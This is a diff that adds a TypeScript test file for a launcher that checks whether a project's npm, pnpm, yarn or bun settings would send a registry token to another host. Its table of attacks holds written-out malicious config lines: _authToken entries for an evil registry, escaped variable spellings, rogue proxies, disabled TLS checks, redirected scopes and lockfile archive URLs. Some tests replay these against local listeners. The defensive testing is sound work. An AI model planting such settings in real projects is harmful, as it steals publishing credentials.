@@ -1,0 +1,335 @@
+import { execFileSync } from 'node:child_process'
+import { chmod } from 'node:fs/promises'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { carryingVariables, tokenVariables } from '../../src/launcher/child-environment.ts'
+import type { Tool } from '../../src/launcher/options.ts'
+import { checkRoutes } from '../../src/launcher/token-routes.ts'
+import { Secret } from '../../src/main/core/infra/secrets/secret.ts'
+import { closeAfterwards, startHome } from '../support/practice-story.ts'
+import { startHttpServer } from '../support/http-server.ts'
+import { hasManager, runManager, type PackageManager } from '../support/package-managers.ts'
+import type { TestHome } from '../support/plaintext-tokens/home.ts'
+
+/**
+ * A project comes from somebody else, and its files of settings tell package managers what to do with variables. What follows was asked of the
+ * real ones: where they are installed, each attack is played with the token in their environment, and arrives; the launcher refuses before that.
+ */
+
+interface Attack {
+  readonly what: string
+  readonly tool: Tool
+  /** Files by name, from what the other registry is called, the variable that carries the token, and our registry. */
+  readonly files: (at: Addresses) => Readonly<Record<string, string>>
+  /** What the real one is asked to do, where it sends the token then. */
+  readonly played?: readonly [PackageManager, ...string[]]
+  readonly variable?: string
+  readonly said?: string
+}
+
+interface Addresses {
+  readonly evil: string
+  readonly good: string
+  /** npm's bound variable. */
+  readonly bound: string
+}
+
+const bare = (url: string) => url.replace('http:', '')
+const whoami = ['npm', 'whoami'] as const
+const view = ['npm', 'view', 'acme'] as const
+
+const attacks: readonly Attack[] = [
+  {
+    what: 'a line for another registry takes the variable',
+    tool: 'npm',
+    files: ({ evil, bound }) => ({ '.npmrc': `registry=${evil}\n${bare(evil)}:_authToken=\${${bound}}\n` }),
+    played: whoami,
+    said: 'names the variable',
+  },
+  {
+    what: 'the same, spelled by numbers',
+    tool: 'npm',
+    files: ({ evil, bound }) => ({
+      '.npmrc': `registry=${evil}\n${bare(evil)}:_authToken="\\u0024{${bound}}"\n`,
+    }),
+    played: whoami,
+  },
+  {
+    what: 'the same, optional',
+    tool: 'npm',
+    files: ({ evil, bound }) => ({ '.npmrc': `registry=${evil}\n${bare(evil)}:_authToken=\${${bound}?}\n` }),
+    played: whoami,
+  },
+  {
+    what: 'the same with a fallback, as pnpm knows it',
+    tool: 'pnpm',
+    files: ({ evil, bound }) => ({ '.npmrc': `${bare(evil)}:_authToken=\${${bound}-x}\n` }),
+  },
+  {
+    what: 'the address of the registry takes it',
+    tool: 'npm',
+    files: ({ evil, bound }) => ({ '.npmrc': `registry=${evil}\${${bound}}/\n` }),
+    played: view,
+  },
+  {
+    what: 'a header takes it',
+    tool: 'npm',
+    files: ({ evil, bound }) => ({ '.npmrc': `registry=${evil}\nuser-agent=\${${bound}}\n` }),
+    played: view,
+  },
+  {
+    what: 'a folder above the project takes it',
+    tool: 'npm',
+    files: ({ evil, bound }) => ({ '../.npmrc': `${bare(evil)}:_authToken=\${${bound}}\n` }),
+  },
+  {
+    what: 'another file of settings is named',
+    tool: 'npm',
+    files: ({ evil, bound }) => ({
+      '.npmrc': `registry=${evil}\nuserconfig=./other\n`,
+      other: `${bare(evil)}:_authToken=\${${bound}}\n`,
+    }),
+    played: whoami,
+    said: 'another file of settings',
+  },
+  {
+    what: 'a proxy reads what goes to a registry without TLS',
+    tool: 'npm',
+    files: ({ evil, good }) => ({ '.npmrc': `registry=${good}\nproxy=${evil}\n` }),
+    played: whoami,
+    said: 'through a proxy',
+  },
+  {
+    what: 'a proxy of the workspace',
+    tool: 'pnpm',
+    files: ({ evil, good }) => ({
+      '.npmrc': `registry=${good}\n`,
+      'pnpm-workspace.yaml': `httpProxy: ${evil}\n`,
+    }),
+    played: ['pnpm', 'whoami'],
+  },
+  {
+    what: 'certificates are not checked',
+    tool: 'npm',
+    files: () => ({ '.npmrc': 'strict-ssl=false\n' }),
+    said: 'switches off the check',
+  },
+  {
+    what: 'certificates are not checked, for one host',
+    tool: 'yarn',
+    files: () => ({ '.yarnrc.yml': 'networkSettings:\n  "*":\n    enableStrictSsl: false\n' }),
+    said: 'switches off the check',
+  },
+  {
+    what: 'a variable of the user’s choice',
+    tool: 'npm',
+    variable: 'CI_TOKEN',
+    files: ({ evil }) => ({ '.npmrc': `${bare(evil)}:_authToken=\${CI_TOKEN}\n` }),
+  },
+  {
+    what: 'a scope elsewhere',
+    tool: 'yarn',
+    files: ({ evil }) => ({ '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: ${evil}\n` }),
+    played: ['yarn', 'npm', 'whoami', '-s', 'acme'],
+    said: 'sends a scope to another registry',
+  },
+  {
+    what: 'a scope elsewhere, with a token that is empty',
+    tool: 'yarn',
+    files: ({ evil }) => ({
+      '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: ${evil}\n    npmAuthToken: "\${NOT_SET-}"\n`,
+    }),
+    played: ['yarn', 'npm', 'whoami', '-s', 'acme'],
+  },
+  {
+    what: 'a scope elsewhere, out of an alias',
+    tool: 'yarn',
+    files: ({ evil }) => ({
+      '.yarnrc.yml': `x: &x\n  npmRegistryServer: ${evil}\nnpmScopes:\n  acme:\n    <<: *x\n`,
+    }),
+  },
+  {
+    what: 'a scope elsewhere takes the variable',
+    tool: 'yarn',
+    files: ({ evil }) => ({
+      '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: ${evil}\n    npmAuthToken: "\\x24{YARN_NPM_AUTH_TOKEN}"\n`,
+    }),
+    played: ['yarn', 'npm', 'whoami', '-s', 'acme'],
+  },
+  {
+    what: 'a package that is published elsewhere',
+    tool: 'yarn',
+    files: ({ evil }) => ({
+      'package.json': JSON.stringify({ name: 'tried', version: '1.0.0', publishConfig: { registry: evil } }),
+    }),
+    said: 'publishes to another registry',
+  },
+  {
+    what: 'an archive elsewhere in the lockfile',
+    tool: 'yarn',
+    files: ({ evil }) => ({
+      'package.json': JSON.stringify({ name: 'tried', dependencies: { '@acme/a': '1.0.0' } }),
+      'yarn.lock': `__metadata:\n  version: 10\n  cacheKey: 10c0\n\n"@acme/a@npm:1.0.0":\n  version: 1.0.0\n  resolution: "@acme/a@npm:1.0.0::__archiveUrl=${encodeURIComponent(`${evil}a.tgz`)}"\n  languageName: node\n  linkType: hard\n`,
+    }),
+    played: ['yarn', 'install'],
+    said: 'fetches an archive from another server',
+  },
+  {
+    what: 'the variable of yarn 1’s settings',
+    tool: 'yarn',
+    files: ({ evil }) => ({ '.npmrc': `${bare(evil)}:_authToken=\${TOKENTRAY_RUN_TOKEN}\n` }),
+  },
+  {
+    what: 'a scope elsewhere that takes Bun’s variable',
+    tool: 'bun',
+    files: ({ evil }) => ({
+      'bunfig.toml': `[install.scopes]\nacme = { url = "${evil}", token = "$BUN_CONFIG_TOKEN" }\n`,
+      'package.json': JSON.stringify({ name: 'tried', dependencies: { '@acme/a': '1.0.0' } }),
+    }),
+    played: ['bun', 'install'],
+  },
+  {
+    what: 'the same, spelled by numbers',
+    tool: 'bun',
+    files: ({ evil }) => ({
+      'bunfig.toml': `[install.scopes]\n__proto__ = { url = "${evil}", token = "\\u0024BUN_CONFIG_TOKEN" }\n`,
+    }),
+  },
+  {
+    what: 'by way of an env file',
+    tool: 'bun',
+    files: () => ({ '.env': 'OTHER=${BUN_CONFIG_TOKEN}\n' }),
+  },
+]
+
+/** The variables that the launcher gives, and where it says that they may go. */
+function carriedOf({ tool, variable }: Pick<Attack, 'tool' | 'variable'>, registry: string, env = {}) {
+  const variables = carryingVariables(tool, registry, { variable: variable ?? null })
+  return { tool, registry, variables, env }
+}
+
+async function startProject(files: Readonly<Record<string, string>>): Promise<TestHome> {
+  const home = await startHome()
+  await home.write('project/package.json', '{"name":"tried","version":"1.0.0"}')
+  for (const [name, text] of Object.entries(files)) await home.write(join('project', name), text)
+  return home
+}
+
+const check = (home: TestHome, carried: ReturnType<typeof carriedOf>, args: readonly string[] = []) =>
+  checkRoutes(home.fs, join(home.path, 'project'), args, carried)
+
+/** A registry that knows nothing, and remembers what it was told. */
+async function startListener() {
+  const heard: string[] = []
+  const server = closeAfterwards(
+    await startHttpServer((request, response) => {
+      heard.push(JSON.stringify([request.url, request.headers]))
+      response.writeHead(404).end('{}')
+    }),
+  )
+  return { url: server.url, heard }
+}
+
+describe('a project that would send the token elsewhere', () => {
+  it.each(attacks)('is refused: $tool, $what', async (attack) => {
+    const [evil, good] = [await startListener(), await startListener()]
+    const bound = `npm_config_${bare(good.url)}:_authToken`
+    const home = await startProject(attack.files({ evil: evil.url, good: good.url, bound }))
+    const carried = carriedOf(attack, good.url)
+    const refused = await check(home, carried)
+    expect(refused).toMatchObject({ ok: false, failure: { code: 'invalid-request' } })
+    const words = refused.ok ? '' : refused.failure.message
+    expect(words).toContain(attack.said ?? '')
+    expect(words).toContain('Nothing was run.')
+
+    if (!attack.played || !hasManager(attack.played[0])) return
+    const [manager, ...args] = attack.played
+    const token = 'TheTokenThatTheCommandGets'
+    await runManager(manager, args, home.path, {
+      ...tokenVariables(attack.tool, good.url, new Secret(token), { variable: null }, null),
+      YARN_HTTP_RETRY: '0',
+      YARN_ENABLE_IMMUTABLE_INSTALLS: 'false',
+      npm_config_fetch_timeout: '5000',
+    })
+    expect(evil.heard.join('\n'), 'what would have happened').toContain(token)
+  })
+
+  it('is refused where a folder or a file is named by the command itself', async () => {
+    const home = await startProject({})
+    const carried = carriedOf({ tool: 'npm' }, 'https://npm.acme.example/')
+    const line = `//evil.example/:_authToken=\${npm_config_//npm.acme.example/:_authToken}\n`
+    await home.write('other/.npmrc', line)
+    await home.write('rc', line)
+    expect(await check(home, carried)).toEqual({ ok: true, value: undefined })
+    for (const args of [['--prefix', '../other'], ['--prefix=../other'], ['--userconfig', '../rc']])
+      expect(await check(home, carried, args), args.join(' ')).toMatchObject({ ok: false })
+  })
+
+  it('is refused where what it says cannot be read', async () => {
+    const carried = carriedOf({ tool: 'npm' }, 'https://npm.acme.example/')
+    const broken = await startProject({ '.yarnrc.yml': 'a: [\n' })
+    expect(await check(broken, carried)).toMatchObject({
+      failure: { message: expect.stringContaining('it is not YAML') as string },
+    })
+    const large = await startProject({ '.npmrc': `; ${'x'.repeat(70_000)}\n` })
+    expect(await check(large, carried)).toMatchObject({
+      failure: { message: expect.stringContaining('larger') as string },
+    })
+    const pipe = await startProject({})
+    execFileSync('mkfifo', [join(pipe.path, 'project', '.npmrc')])
+    expect(await check(pipe, carried)).toMatchObject({
+      failure: { message: expect.stringContaining('no ordinary file') as string },
+    })
+    if (process.getuid?.() === 0) return
+    const closed = await startProject({ '.npmrc': 'fund=false\n' })
+    await chmod(join(closed.path, 'project', '.npmrc'), 0)
+    expect(await check(closed, carried)).toMatchObject({
+      failure: { message: expect.stringContaining('EACCES') as string },
+    })
+  })
+
+  it('does not get a word of its settings into the terminal as it stands', async () => {
+    const home = await startProject({
+      '.npmrc': `//evil.example/\u001b[2J:_authToken=\${npm_config_//npm.acme.example/:_authToken}\n`,
+    })
+    const refused = await check(home, carriedOf({ tool: 'npm' }, 'https://npm.acme.example/'))
+    expect(refused.ok ? '' : refused.failure.message).not.toContain('\u001b')
+  })
+})
+
+describe('a project that sends the token to its registry', () => {
+  const acme = 'https://npm.acme.example/'
+
+  it.each<readonly [Tool, Readonly<Record<string, string>>, string | undefined]>([
+    [
+      'npm',
+      { '.npmrc': `@acme:registry=${acme}\n//npm.acme.example/:_authToken=\${NPM_TOKEN}\n` },
+      'NPM_TOKEN',
+    ],
+    ['npm', { '.npmrc': 'registry=https://other.example/\nstrict-ssl=true\n# ${NPM_TOKEN}\n' }, 'NPM_TOKEN'],
+    ['npm', { '.npmrc': 'https-proxy=http://proxy.example:8080\n' }, undefined],
+    ['npm', { '.npmrc': '//other.example/:_authToken=${OTHER_TOKEN}\n' }, undefined],
+    ['npm', { '.npmrc': '//other.example/:_authToken=${NPM_TOKEN_OF_OTHER}\n' }, 'NPM_TOKEN'],
+    ['yarn', { '.yarnrc.yml': 'npmAuthToken: "${YARN_NPM_AUTH_TOKEN}"\n' }, undefined],
+    ['yarn', { '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: ${acme}\n` }, undefined],
+    [
+      'yarn',
+      {
+        '.yarnrc.yml': 'npmScopes:\n  b:\n    npmRegistryServer: https://b.example\n    npmAuthToken: abc\n',
+      },
+      undefined,
+    ],
+    ['bun', { 'bunfig.toml': `[install.scopes]\nacme = { url = "https://b.example/" }\n` }, undefined],
+    [
+      'bun',
+      { 'bunfig.toml': `[install.registry]\nurl = "${acme}"\ntoken = "$BUN_CONFIG_TOKEN"\n` },
+      undefined,
+    ],
+  ])('is run: %s, %j', async (tool, files, variable) => {
+    const home = await startProject(files)
+    expect(await check(home, carriedOf({ tool, ...(variable ? { variable } : {}) }, acme))).toEqual({
+      ok: true,
+      value: undefined,
+    })
+  })
+})
